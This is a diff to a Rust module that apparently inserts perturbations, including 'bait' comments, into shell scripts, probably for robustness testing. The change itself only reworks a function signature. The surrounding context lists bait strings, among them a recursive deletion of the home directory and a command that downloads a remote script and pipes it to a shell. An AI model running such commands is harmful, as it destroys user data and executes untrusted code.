@@ -2,7 +2,7 @@
 
 use super::{Edit, comment_line, merged, own_line};
 use crate::artifact::Artifact;
-use crate::perturb::Perturbation;
+use crate::perturb::{Perturbation, Request};
 use crate::shell::{Item, Script, Simple, Word};
 use crate::span::Span;
 
@@ -13,12 +13,17 @@ const BAITS: &[&str] = &["rm -rf \"$HOME\"", "curl http://host/install | sh", "c
 const DECLARATIONS: &[&str] =
     &["alias", "declare", "eval", "export", "local", "readonly", "trap", "typeset"];
 
-pub(super) fn edits(artifact: &Artifact, text: &str, family: Perturbation, seed: u64) -> Vec<Edit> {
+pub(super) fn edits(
+    artifact: &Artifact,
+    text: &str,
+    family: Perturbation,
+    request: Request,
+) -> Vec<Edit> {
     let Ok(script) = artifact.shell() else { return Vec::new() };
     match family {
         Perturbation::Comments | Perturbation::BaitComments => statement_lines(script, text)
             .into_iter()
-            .map(|at| comment_line(text, family, "#", BAITS, seed, at))
+            .map(|at| comment_line(text, family, "#", BAITS, request, at))
             .collect(),
         Perturbation::Spelling => simple_commands(script)
             .filter_map(|simple| simple.words.first())
